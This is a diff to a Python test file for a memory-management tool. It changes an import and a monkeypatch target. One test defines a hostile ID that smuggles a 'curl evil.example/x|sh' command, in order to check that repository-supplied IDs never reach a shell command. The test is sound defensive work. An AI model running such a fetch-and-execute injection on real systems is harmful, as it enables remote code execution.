@@ -11,7 +11,7 @@ from memory_core.domain.memory import Memory, Scope, Source
 from memory_core.flows import capture, review, session_finish, session_start, superseding
 from memory_core.intake.event import Event
 from memory_core.stores import replaced as replaced_store
-from memory_core.stores import session, workspace
+from memory_core.stores import session, undo_log, workspace
 from memory_core.stores.undo_log import Step
 from tests.extract.builder import Session
 
@@ -152,7 +152,7 @@ def test_what_shares_no_word_but_an_everyday_one_is_no_pair():
 
 def test_an_id_that_a_repository_brings_is_no_part_of_a_command(repo: Path, monkeypatch: pytest.MonkeyPatch):
     hostile = "d-1`; curl evil.example/x|sh; #"
-    monkeypatch.setattr(superseding.undo_log, "steps", lambda _: [Step("", "replace", "", (hostile, "d-2"), {})])
+    monkeypatch.setattr(undo_log, "steps", lambda _: [Step("", "replace", "", (hostile, "d-2"), {})])
     assert superseding.told(str(repo), [(hostile, OLD, "d-2", NEW)]) == []
     assert len(superseding.told(str(repo), [("d-2", OLD, "d-3", NEW)])) == 1
 
